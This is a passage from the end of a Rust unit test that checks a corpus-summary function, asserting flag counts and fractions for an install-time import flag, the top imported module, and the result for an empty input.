        assert_eq!(summary.flag_script_counts[&FlagKind::ImportAtInstall], 2);
        assert_eq!(summary.flag_fractions[&FlagKind::ImportAtInstall], 0.5);
        assert_eq!(summary.top_imports[0], ("os".to_owned(), 2));

        let empty = corpus_summary(&[]);
        assert_eq!(empty.scripts, 0);
        assert!(empty.flag_fractions.is_empty());
    }
}
